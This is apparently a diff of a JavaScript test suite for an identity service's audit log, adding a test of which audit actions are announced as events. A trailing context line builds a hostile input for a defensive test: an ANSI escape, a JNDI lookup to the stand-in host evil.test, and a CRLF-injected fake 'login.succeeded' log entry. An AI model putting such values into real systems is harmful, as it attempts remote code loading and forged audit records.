@@ -189,6 +189,37 @@ describe('the audit log', () => {
     ]);
   });
 
+  it('announces acts on people, groups, applications and the account, and no others', async () => {
+    const { account_id: accountId, admin_user_id: userId } = account;
+    const admin = identity.as({ accountId, userId });
+    const { body: user } = await admin('POST', '/users', { email: 'followed@example.com' });
+    await identity.publish('metadata.audit.requested', {
+      account_id: accountId,
+      action: 'domain.created',
+      resource_type: 'domain',
+      resource_id: 3,
+    });
+    await eventually(async () => expect((await entries()).length).toBe(2));
+    await admin('DELETE', `/users/${user.id}`);
+    const announced = () =>
+      identity.events
+        .filter(({ type, payload }) => type === 'identity.audit.recorded' && payload.account_id === accountId)
+        .map(({ payload }) => payload);
+    await eventually(() => expect(announced().map(({ action }) => action)).toContain('user.deleted'));
+    expect(new Set(announced().map(({ action }) => action))).toEqual(
+      new Set([
+        'account.created',
+        'user.created',
+        'user_group_assignment.created',
+        'oauth_application.created',
+        'user.deleted',
+      ]),
+    );
+    expect(announced()).toContainEqual(
+      expect.objectContaining({ action: 'user.created', user_id: userId, resource_type: 'user', resource_id: user.id }),
+    );
+  });
+
   it('keeps hostile text as text in one JSON value', async () => {
     const name = `\u001b[31m\${jndi:ldap://evil.test/a}\r\n{"action":"login.succeeded"}`;
     const { status } = await account.admin('POST', '/user_groups', { name, description: name });
